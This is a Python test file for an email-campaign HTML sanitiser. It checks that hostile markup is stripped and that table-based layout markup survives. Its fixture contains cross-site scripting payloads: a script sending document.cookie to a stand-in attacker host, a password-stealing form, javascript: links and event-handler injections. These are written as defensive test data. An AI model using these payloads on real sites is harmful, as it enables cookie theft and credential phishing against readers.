"""HTML campaign content is sanitised: what email layouts need stays, what attacks goes."""

from __future__ import annotations

from campaigns.compose import Composer
from campaigns.content import parse_content
from campaigns.models import SourceFormat

HOSTILE = """<meta http-equiv="refresh" content="0; url=https://evil.example/">
<script>document.location = "https://evil.example/?" + document.cookie</script>
<p>Read <a href="javascript:alert(1)">this</a> and <a href="data:text/html,x">that</a>.</p>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.example/"></iframe>
<img src="https://news.example.org/pic.png" onerror="alert(1)" alt="Harvest">
<div style="position:fixed;top:0;color:#123456" onclick="alert(1)">Notice</div>
<object data="x.swf"></object><svg onload="alert(1)"></svg>
"""

LAYOUT = """<table role="presentation" width="100%" cellpadding="8" bgcolor="#eef1f2">
<tr><td align="center" valign="top" style="color:#1a4d2e;font-family:Georgia,serif;padding:12px">
<h2>Harvest notes</h2>
<p>Dear {{ subscriber.name | fallback('partner') }}, <a href="mailto:coop@example.org">write</a>
or <a href="https://www.example.org/cooperatives" target="_blank">read more</a>.</p>
<img src="https://news.example.org/pic.png" alt="The storage hall" width="560" border="0">
<p><a href="{{ unsubscribe_url }}">Unsubscribe</a></p>
</td></tr></table>
"""


def render(body: str) -> str:
    content = parse_content(body, name="letter.html", format=SourceFormat.HTML)
    composition = Composer().compose(content=content, template="news-article", subject="Notes")
    return composition.html.fill(
        {"name": "Amara", "unsubscribe_url": "https://news.example.org/u/TOKEN"}
    )


def test_what_attacks_a_reader_is_removed() -> None:
    html = render(HOSTILE + LAYOUT)
    for gone in (
        'http-equiv="refresh"',
        "evil.example",
        "document.cookie",
        "javascript:",
        "data:text/html",
        "<form",
        'name="password"',
        "<iframe",
        "onerror",
        "onclick",
        "position:fixed",
        "<object",
        "<svg",
        "onload",
    ):
        assert gone not in html, gone
    assert "Notice" in html and 'alt="Harvest"' in html  # the text and the picture stay


def test_what_an_email_layout_needs_stays() -> None:
    html = render(LAYOUT)
    for kept in (
        'bgcolor="#eef1f2"',
        'cellpadding="8"',
        'valign="top"',
        "color:#1a4d2e",
        "Georgia",
        'href="mailto:coop@example.org"',
        'href="https://www.example.org/cooperatives"',
        'width="560"',
        'href="https://news.example.org/u/TOKEN"',  # a slot in a link survives
        "Dear Amara,",
    ):
        assert kept in html, kept
